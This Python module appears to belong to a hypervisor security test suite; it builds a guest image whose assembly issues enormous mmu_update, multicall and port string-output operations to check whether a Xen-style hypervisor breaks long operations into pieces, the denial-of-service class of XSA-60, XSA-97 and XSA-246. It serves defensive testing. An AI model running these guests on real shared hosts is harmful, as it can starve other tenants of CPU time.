"""Calls and instructions that go on and on: time that is the neighbours', too.

Tries the longest lists of requests, alone and within a multicall, over an address space made of one page
mapped a million times, endless string output to a port, and pages full of calls that do nothing. On a
broken hypervisor nobody else runs until they are done (the class of XSA-60, XSA-97, XSA-246). A correct
one does them in pieces. They are begun while the timer's deadline ends this guest: nothing is printed but
that it began.
"""

from __future__ import annotations

from guests.attacks.support import L3 as L3_TABLE
from guests.attacks.support import (
    READ_ONLY,
    READ_WRITE,
    attack,
    expect,
    frame_of,
    remap,
    shifted,
    update,
    walk,
)
from guests.macros import get, hypercall, line, put

HUGE = 0xFFFF_FFFF_C000_0000
"""The last gigabyte of the address space, every page of it the page of requests."""

TABLES = "\n".join(
    (
        frame_of("requests", "requests_frame"),
        "lea rdi, [rip + requests]\nmov rbx, [rip + third_frame]\nshl rbx, 12\nmov ecx, 256",
        "fill: mov [rdi], rbx\nmov qword ptr [rdi + 8], 7\nadd rdi, 16\ndec ecx\njnz fill",
        shifted("requests_frame", READ_ONLY),
        "lea rdi, [rip + spare]\nmov ecx, 512\nrep stosq",
        shifted("spare_frame", READ_WRITE),
        "lea rdi, [rip + other]\nmov ecx, 512\nrep stosq",
        remap("spare", READ_ONLY),
        remap("other", READ_ONLY),
        walk("spare"),
        f"mov rbx, [rip + table_frame + {L3_TABLE}]\nshl rbx, 12\nadd rbx, 4088",
        shifted("other_frame", READ_WRITE),
        update("rbx", "rax"),
        expect("a gigabyte of requests", 0),
    )
)

ENDLESS = "\n".join(
    (
        "mov rax, [rip + start_info_address]\nmovzx ebx, byte ptr [rax + start_info.cmd_line]",
        line("PASS begins"),
        "cmp bl, 49\nje in_batch\ncmp bl, 50\nje string_output\ncmp bl, 51\nje many_operations",
        f"mov r13, {HUGE}",
        hypercall("mmu_update", "r13", 0x3FF_FFFF, 0, "DOMID_SELF"),
        "jmp all_done",
        "in_batch:",
        put("calls", "__HYPERVISOR_mmu_update"),
        put("calls + 16", HUGE),
        put("calls + 24", 0x3FF_FFFF),
        put("calls + 32", 0),
        put("calls + 40", "DOMID_SELF"),
        hypercall("multicall", "&calls", 1),
        get("calls + 8"),
        "jmp all_done",
        "string_output:",
        put("iopl", 3),
        hypercall("physdev_op", "PHYSDEVOP_set_iopl", "&iopl"),
        f"mov rsi, {HUGE}\nmov ecx, 0x3fffffff\nmov dx, 0x70\nrep outsb",
        "jmp all_done",
        "many_operations:",
        f"mov r13, {HUGE}",
        hypercall("multicall", "r13", 0xFF_FFFF),
        "all_done:",
    )
)


def build() -> bytes:
    """The image."""
    return attack(
        TABLES,
        ENDLESS,
        data=("requests_frame: .quad 0\ncalls: .zero 64\niopl: .quad 0",),
        bss=(".balign 4096, 0\nrequests: .zero 4096",),
    )
